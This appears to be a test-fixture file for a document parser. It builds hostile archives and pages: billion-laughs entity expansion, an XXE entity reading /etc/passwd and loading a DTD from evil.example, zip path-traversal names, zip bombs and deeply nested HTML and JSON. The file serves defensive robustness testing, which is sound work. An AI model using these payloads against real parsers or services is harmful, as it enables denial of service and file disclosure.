/** For tests: files that are no harm to read in a moment, or refused, and would be without end otherwise. */

import { strToU8, zipSync } from 'fflate';
import { docxOf } from '../docx.ts';
import { pageWith } from './files.ts';

const document = (content: string) => strToU8(`<?xml version="1.0"?>${content}`);

const lol = `<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${'abcdefgh'
  .split('')
  .map((name, at) => `<!ENTITY ${'bcdefghi'[at]} "${`&${name};`.repeat(10)}">`)
  .join('')}]><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>`;
const outside =
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/y.dtd">%y;]><w:document xmlns:w="w">&x;</w:document>';

/** Offsets of what the last record of the archive's table of contents says of its first part. */
function central(bytes: Uint8Array): { readonly view: DataView; readonly at: number } {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  return { view, at: view.getUint32(bytes.length - 22 + 16, true) };
}

/** `zip` with another size in its table of contents. */
function sayingSize(zip: Uint8Array, size: number): Uint8Array {
  const bytes = zip.slice();
  const { view, at } = central(bytes);
  view.setUint32(at + 24, size, true);
  return bytes;
}

/** `count` entries that all lie over the same packed bytes. */
function overlapping(count: number): Uint8Array {
  const zip = zipSync({ 'word/document.xml': new Uint8Array(20_000_000) }, { level: 9 });
  const { at } = central(zip);
  const end = zip.length - 22;
  const entry = zip.slice(at, end);
  const local = zip.slice(0, at);
  const bytes = new Uint8Array(local.length + entry.length * count + 22);
  bytes.set(local, 0);
  for (let index = 0; index < count; index++) {
    const name = `word/d${String(index).padStart(7, '0')}.xml`;
    bytes.set(entry, local.length + index * entry.length);
    bytes.set(strToU8(name.slice(0, 17)), local.length + index * entry.length + 46);
  }
  bytes.set(zip.slice(end), bytes.length - 22);
  const last = new DataView(bytes.buffer);
  last.setUint16(bytes.length - 22 + 8, count, true);
  last.setUint16(bytes.length - 22 + 10, count, true);
  last.setUint32(bytes.length - 22 + 12, entry.length * count, true);
  last.setUint32(bytes.length - 22 + 16, local.length, true);
  return bytes;
}

const small = (parts: Readonly<Record<string, string>>) =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, content]) => [name, strToU8(content)])));
const nested = (depth: number): Uint8Array =>
  depth === 0
    ? zipSync({ x: new Uint8Array(1_000_000) })
    : zipSync({ 'word/document.xml': nested(depth - 1) });
const plainDocument = '<w:document xmlns:w="w"><w:body/></w:document>';

/** Archives and packages. */
export const archiveBombs: Readonly<Record<string, () => Uint8Array>> = {
  'a billion laughs': () => zipSync({ 'word/document.xml': document(lol) }),
  'entities from outside': () => zipSync({ 'word/document.xml': document(outside) }),
  'a billion laughs in the styles': () =>
    zipSync({
      'word/document.xml': document(plainDocument),
      'word/styles.xml': document(lol),
      'word/_rels/document.xml.rels': document(
        '<Relationships><Relationship Id="s" Type="x/styles" Target="styles.xml"/></Relationships>',
      ),
    }),
  'a billion laughs in a workbook': () =>
    zipSync({ 'xl/workbook.xml': document(lol.replace(/w:document/g, 'workbook')) }),
  'names that climb out': () =>
    small({
      '../../../evil.sh': 'x',
      '/etc/passwd': 'x',
      'C:\\x.exe': 'x',
      '..\\..\\y': 'x',
      'word/document.xml': plainDocument,
    }),
  'relations that climb out': () =>
    small({
      '_rels/.rels':
        '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="../../../../etc/passwd"/></Relationships>',
      'word/document.xml': plainDocument,
    }),
  'archives in archives': () => nested(20),
  'parts over each other': () => overlapping(3000),
  'a part that says it has 4 GB': () =>
    sayingSize(zipSync({ 'word/document.xml': document(plainDocument) }), 0xfffffffe),
  'a part that says it is small': () =>
    sayingSize(zipSync({ 'word/document.xml': new Uint8Array(68_000_000) }, { level: 1 }), 10),
  'ten thousand parts': () =>
    small(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`word/p${at}.xml`, '']))),
  'a hundred thousand levels of Word': () =>
    docxOf(
      `<w:p>${'<w:sdt><w:sdtContent>'.repeat(100_000)}${'</w:sdtContent></w:sdt>'.repeat(100_000)}</w:p>`,
    ),
};

const deep = 100_000;

/** Pages, texts and draft files. */
export const textBombs: Readonly<Record<string, readonly [string, () => string]>> = {
  'a word of a megabyte': ['a.html', () => pageWith(`<p>${'字'.repeat(1_000_000)}</p>`)],
  'a word of a megabyte as text': ['a.txt', () => '字'.repeat(1_000_000)],
  // A hundred thousand are measured in a browser, by npm run bench: jsdom takes a minute for their tree.
  'twenty thousand cells': [
    'a.html',
    () => pageWith(`<table>${`<tr>${'<td>1</td>'.repeat(10)}</tr>`.repeat(2000)}</table>`),
  ],
  'cells that span everything': [
    'a.html',
    () => pageWith(`<table>${'<tr><td colspan=1000 rowspan=65534>1</td></tr>'.repeat(2000)}</table>`),
  ],
  'attributes without end': ['a.html', () => pageWith(`<p ${'a '.repeat(200_000)}>甲</p>`)],
  'styles without end': ['a.html', () => pageWith(`<p style="${'color:red;'.repeat(100_000)}">甲</p>`)],
  'rules without end': ['a.html', () => pageWith('', `<style>${'.a{color:red}'.repeat(100_000)}</style>`)],
  'frames in frames': [
    'a.html',
    () => {
      let inner = '<p>甲</p>';
      for (let depth = 0; depth < 12; depth++)
        inner = `<iframe srcdoc="${inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`.repeat(
          2,
        );
      return pageWith(inner);
    },
  ],
  'a draft of many levels': [
    'a.json',
    () =>
      `{"format":"zwgk-annual-report","version":1,"report":{"form":"2021","year":2025,"later":${'['.repeat(deep)}${']'.repeat(deep)}}}`,
  ],
  'a draft of many keys': [
    'a.json',
    () =>
      `{"format":"zwgk-annual-report","version":1,"report":{"form":"2021","figures":{${Array.from({ length: deep }, (_, at) => `"x${at}":1`).join()}}}}`,
  ],
};
